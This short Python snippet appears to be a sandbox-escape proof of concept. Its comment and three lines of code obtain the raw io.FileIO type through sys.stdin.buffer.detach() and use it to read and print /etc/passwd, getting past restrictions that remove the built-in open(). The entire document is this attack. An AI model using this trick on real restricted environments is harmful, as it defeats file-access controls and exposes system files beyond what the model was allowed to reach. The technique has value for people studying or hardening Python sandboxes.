# sys.stdin.buffer.detach() hands out the raw io.FileIO, whose type opens any file by name
import sys

FileIO = type(sys.stdin.buffer.detach())
print(FileIO("/etc/passwd").read())
